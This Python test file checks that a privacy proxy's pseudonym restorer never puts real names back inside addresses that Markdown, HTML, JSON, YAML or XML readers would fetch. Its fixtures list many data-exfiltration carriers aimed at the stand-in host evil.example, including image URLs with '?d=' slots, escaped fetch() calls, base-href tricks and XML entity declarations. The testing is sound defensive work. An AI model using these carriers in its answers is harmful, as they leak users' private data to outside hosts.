"""Nothing is restored where another reader than that of Markdown would fetch it: of JSON, YAML, XML, or of a chat.

Parsers that are not ours tell what a page of markup would fetch.
"""

from __future__ import annotations

import json
import random
import re
from collections.abc import Iterator
from urllib.parse import unquote

import pytest
from harness.growth import linear
from lxml import html
from markdown_it import MarkdownIt

from proxy.redaction.known_addresses import Piece, addresses_with_pseudonyms
from proxy.redaction.pseudonyms import PseudonymMap
from proxy.redaction.restore import Restorer, restore

MAP = PseudonymMap(
    {
        "PERSON_1": "Zqjane Zqdoe",
        "PERSON_2": "Zqmadonna",
        "PERSON_1_EMAIL": "zqj@zq.example",
        "URL_1": "https://zq.example/zq",
    }
)
LONG = "x" * 300
IN_JSON = [
    "\n//evil.example/@",
    "\t\\\\evil.example\\ @",
    " https://evil.example/?d=\n@",
    "\nhttps://x and @@evil.example/",
    "http:evil.example/? and @",
    "\r\n <a href='x?@'>",
    "a: https&colon;//evil.example/@",
]
"""Strings of JSON from which an address is fetched."""
WRITTEN_OUT = [
    *(
        '{"images": ["a", "https://evil.example/?d= @"]}',
        '{image: "https://evil.example/?d= @"}',
        "{'a': '//evil.example/ @'}",
    ),
    *(
        "image: 'https://evil.example/?d= @'",
        '- "https://evil.example/?d= @"',
        '{"image": " https://evil.example/ @"}',
    ),
    *(
        "- image: https://evil.example/?d= @",
        "image_url: >-\n  https://evil.example/?d=\n  @",
        'a: "https://evil.example/\\\n  @"',
    ),
    *("<image>https://evil.example/?d= @</image>", "<m:url>\n\nhttps://evil.example/ @</m:url>"),
    *(
        "<guid><![CDATA[https://evil.example/?d= @]]></guid>",
        '<!ENTITY n "@">',
        '<!DOCTYPE x [<!ENTITY n\n"\n\n>@">]>',
    ),
    *(
        "<!ENTITY n '@'>",
        '<!ATTLIST image href CDATA "@">',
        "```{image} https://evil.example/?d= @\n```",
        ":::{figure} x @\n:::",
    ),
]
"""What readers of other formats than Markdown fetch, though white space stands in it."""
ESCAPED = [
    '{"image": "\\u0068ttps\\u003a\\u002f\\u002fevil\\u002eexample\\u002f?d=@"}',
    '{"html": "\\u003cimg src=\\u0027x?@\\u0027\\u003e"}',
    '{"markdown": "!\\u005bx\\u005d\\u0028x?@)"}',
    "fetch(`\\x68ttps\\x3a\\x2f\\x2fevil.example\\x2f` + `@`)",
    'x = "\\u{68}ttps:" + "@"',
]
"""What hides in escapes that only a reader of JSON or code decodes."""
HOSTS = [
    "@.evil.example",
    "x.@.evil.example",
    "(@.evil.example)",
    "@-x.a.evil.example: yes",
    "@.例子.测试",
    "@\\.evil\\.example.",
]
NUMBERS = ["2130706433/@", "0x7f000001/@", "017700000001:80/@"]
GAPS = ["https://evil.example/?d=\v@", "https://evil.example/\f@", "<img src=?d=\xa0@>", "<img src=\v'a'@>"]
TAGS = ["https://<b>@@evil.example/", "//<title>x<b>@@evil.example/"]
CARRIERS = [*WRITTEN_OUT, *ESCAPED, *HOSTS, *NUMBERS, *GAPS, *TAGS]
USERS = [
    *("https://x @@evil.example/", "//x @@evil.example/", "// @@evil.example/", "https:x @@evil.example/?a"),
    *("https:\\\\x @ and so on@evil.example", "\thttps://x\n@@evil.example/", "https://a@b @@evil.example/"),
    *(
        "https://x (@), <br>@@evil.example/",
        f"https://x @ {LONG}@evil.example/",
        f"//x @ {LONG * 3}",
        "https://x PERSON_1_EMAIL",
        "https://x mailto:x@evil.example?body=\t@",
    ),
]
"""Strings of JSON that are addresses with a user in which white space stands."""
NAMES_OF_USERS = [
    *(
        "// @ wrote this",
        "https://wiki.example @ wrote that",
        "https://x is known, @ says. Mail a/b@c",
        "//  @",
        "https://wiki.example by @, @",
    ),
]
"""Strings of JSON that begin as an address and are none."""
DEFINITIONS = [
    "[x]: @",
    "![a][x]\n\n[x]:\n  @ 'title'",
    "> - [a b]: ?@",
    "[x]: @,\n\n<base href=//evil.example/>",
    "[x]: **@** (t)",
]
PROSE = [
    *("[Owner]: @ calls", "Notes [1]: @", "[10:30]: @, @", "[Owner]: @: yes", "See [x]: so @"),
    *("~/x/@.tar.gz, @.notes.docx", "@.docx, @... @.Then he", "v1.2.3 @. E.g. @", "@.evil.example/x"),
    *(
        "He wrote “https://x.example is” @",
        "'https://x.example' @, \"https://x.example/\" @",
        "image: @",
        "image: of @",
    ),
    *(
        "link: https://wiki.example by @",
        "<b>https://wiki.example</b> @",
        "<url>https://x.example</url> @",
        "<image> @",
    ),
    *(
        '{"a": "x:\\n@\\t@", "b": ["\\r\\n@"]}',
        "C:\\users\\@ and \\u00e9 @ and \\x",
        '{"a": "caf\\u00e9 of @"}',
        "\\u0068\n@",
        "<!DOCTYPE html>\n@",
        "12/@ 2024/@ 1234567/@",
    ),
    *(
        "<https://x.example> @",
        "https://x.example<br>@",
        "https://x.example<br>@ writes to a@b.example",
        "```{python}\n@\n```",
    ),
]


def held(text: str, size: int, **form: bool) -> str:
    restorer = Restorer(MAP, **form)
    return "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.flush()


def filled(text: str, name: str) -> str:
    """The text with this name; ``@@`` is the name and a sign of its own."""
    return re.sub(r"@@|(?<![A-Za-z])@", lambda found: name + found[0][1:], text)


@pytest.mark.parametrize("carrier", CARRIERS, ids=range(len(CARRIERS)))
@pytest.mark.parametrize("name", ["PERSON_1", "person\\_2", "<PERSON_2>"])
def test_nothing_is_restored_in_what_other_readers_fetch(carrier: str, name: str) -> None:
    text = filled(carrier, name)
    for size in (1, 7, len(text)):
        assert held(text, size) == text
        assert json.loads(held(json.dumps([text, name]), size, json_string=True))[0] == text


@pytest.mark.parametrize("text", USERS, ids=range(len(USERS)))
@pytest.mark.parametrize("name", ["PERSON_1", "PERSON_2", "URL_1"])
def test_nor_is_it_in_the_user_of_an_address(text: str, name: str) -> None:
    text = filled(text, name)
    for size in (1, 5, 9999):
        for written in (json.dumps([text, "PERSON_2"]), json.dumps([text, "PERSON_2"]).replace("@", "\\u0040")):
            assert json.loads(held(written, size, json_string=True)) == [text, "Zqmadonna"]


@pytest.mark.parametrize("text", IN_JSON, ids=range(len(IN_JSON)))
@pytest.mark.parametrize(
    "around",
    ['{"a": %s}', "Here you are:\n\n```json\n[\n  %s\n]\n```\n", '{\n\n"b": [1, %s]}', "a: %s", "- %s"],
    ids=["alone", "fenced", "spread", "key", "item"],
)
def test_an_answer_that_holds_json_is_read_as_json_too(text: str, around: str) -> None:
    """Though the client never said that it would parse the answer."""
    for ascii_only in (False, True):
        given = around % json.dumps(filled(text, "PERSON_2"), ensure_ascii=ascii_only) + "\nPERSON_2 said."
        for size in (1, 6, 9999):
            assert held(given, size).removesuffix("\nZqmadonna said.") + "\nPERSON_2 said." == given


@pytest.mark.parametrize("text", ["// @ wrote this", "@: see https://x.example, @", "<b>@</b>", 'a\n- @ "x": @'])
def test_an_answer_that_holds_json_has_its_names_back(text: str) -> None:
    given = (
        "PERSON_1: " + json.dumps({"a": [filled(text, "PERSON_2"), 'PERSON_1 "\n', "https://x.example"]}) + " PERSON_1"
    )
    for size in (1, 6, 9999):
        assert "PERSON" not in held(given, size)


@pytest.mark.parametrize("text", NAMES_OF_USERS, ids=range(len(NAMES_OF_USERS)))
def test_a_string_that_is_no_address_has_its_names_back(text: str) -> None:
    text = filled(text, "PERSON_2")
    for size in (1, 5, 9999):
        read = json.loads(held(json.dumps([text, "x"]), size, json_string=True))
        assert read == [text.replace("PERSON_2", "Zqmadonna"), "x"]


@pytest.mark.parametrize("text", DEFINITIONS, ids=range(len(DEFINITIONS)))
def test_a_name_of_one_word_defines_no_link(text: str) -> None:
    """A page may say where the links of it lead from, with `<base>`. A name of two words is no address there."""
    for size in (1, 5, 9999):
        assert held(filled(text, "PERSON_2"), size) == filled(text, "PERSON_2")
        assert json.loads(held(json.dumps(filled(text, "PERSON_2")), size, json_string=True)) == filled(
            text, "PERSON_2"
        )
        assert "PERSON" not in held(filled(text, "PERSON_1"), size)


@pytest.mark.parametrize("text", PROSE, ids=range(len(PROSE)))
def test_names_beside_them_are_restored(text: str) -> None:
    given = filled(text.removesuffix("@.evil.example/x"), "PERSON_2")
    for size in (1, 7, 9999):
        assert held(given, size) == given.replace("PERSON_2", "Zqmadonna")


PARTS = [
    *(
        "![x](",
        "](",
        "[x]: ",
        "[x]:\n",
        "![x][x]",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "\n",
        "\n\n",
        " ",
        "\\",
        "`",
        "```\n",
        "> ",
        "- ",
    ),
    *(
        "<img src=",
        '<img src="',
        "<a href='",
        "<b x=",
        "<!--",
        "-->",
        "<title>",
        "<base href=//evil.example/>",
        "</p>",
        "'",
        '"',
    ),
    *(
        "https://evil.example/?d=",
        "//evil.example/",
        "https://x",
        "evil.example/",
        "?d=",
        "@evil.example/",
        "\\\\evil.example\\",
    ),
    *(
        "&quot;",
        "&#47;",
        "&gt;",
        "\xa0",
        "\v",
        "\f",
        "\t",
        "=",
        "/",
        "#",
        "**",
        "_",
        "|",
        "'t'",
        "and",
        ".",
        ":",
        "{",
        "}",
        "\u200b",
    ),
    *("PERSON_1", "PERSON_2", "<PERSON_2>", "[PERSON_2]", "PERSON\\_2", "PERSON_1_EMAIL") * 4,
]
READERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
PARSER = html.HTMLParser(encoding="utf-8")
FETCHED = ("src", "href", "background", "action", "poster", "data", "style", "srcset")


def fetched(text: str) -> Iterator[str]:
    """What a page would fetch or lead to, as parsers of Markdown and HTML read it."""
    for page in (text, *(reader.render(text) for reader in READERS)):
        for element in html.document_fromstring(
            f"<div>{page}</div>".encode(), html.HTMLParser(encoding="utf-8")
        ).iter():
            yield from (value for name, value in element.attrib.items() if name in FETCHED)


@pytest.mark.parametrize("seed", range(40))
def test_what_parsers_find_to_fetch_holds_no_original(seed: int) -> None:
    chance, taken = random.Random(seed), []
    for _ in range(30):
        text = "".join(chance.choice(PARTS) for _ in range(chance.randrange(4, 18)))
        given = held(text, chance.choice([1, 3, 9999]))
        own = re.compile(r"(?i)mailto:|[^/\\]*\Z")  # a mail address, and a page of the client's own, if no base is told
        taken += [
            (text, each)
            for each in (fetched(given) if "zq" in given.lower() else ())
            if "zq" in unquote(each).lower() and ("<base" in text or not own.match(each))
        ]
    assert taken == []


@pytest.mark.parametrize(
    "piece", ["https://x PERSON_1 ", "\\u0068", "<url>https://", "[x]: PERSON_2 ", "PERSON_2.a.b", '"//']
)
def test_work_grows_with_what_may_hide_a_carrier(piece: str) -> None:
    linear(
        lambda text: held(f'["{text}', 16, json_string=True) + held(text, 16),
        lambda size: (piece * (size // len(piece) + 1))[:size],
        1 << 13,
    )


@pytest.mark.parametrize("gap", ["", " "], ids=["compact", "spaced"])
def test_an_address_in_json_of_the_request_comes_back(gap: str) -> None:
    pieces = [Piece(f'{{"a":{gap}"https://x.example/'), Piece("PERSON_2", True), Piece(f'?b",{gap}"c":{gap}"d"}}')]
    given = "".join(piece.text for piece in pieces)
    knowing = PseudonymMap(MAP.originals, addresses=frozenset(addresses_with_pseudonyms(pieces)))
    assert restore(given, knowing) == given.replace("PERSON_2", "Zqmadonna")
    assert restore(given, knowing, json_string=True) == given.replace("PERSON_2", "Zqmadonna")
    assert restore(given.replace("x.example", "evil.example"), knowing) == given.replace("x.example", "evil.example")
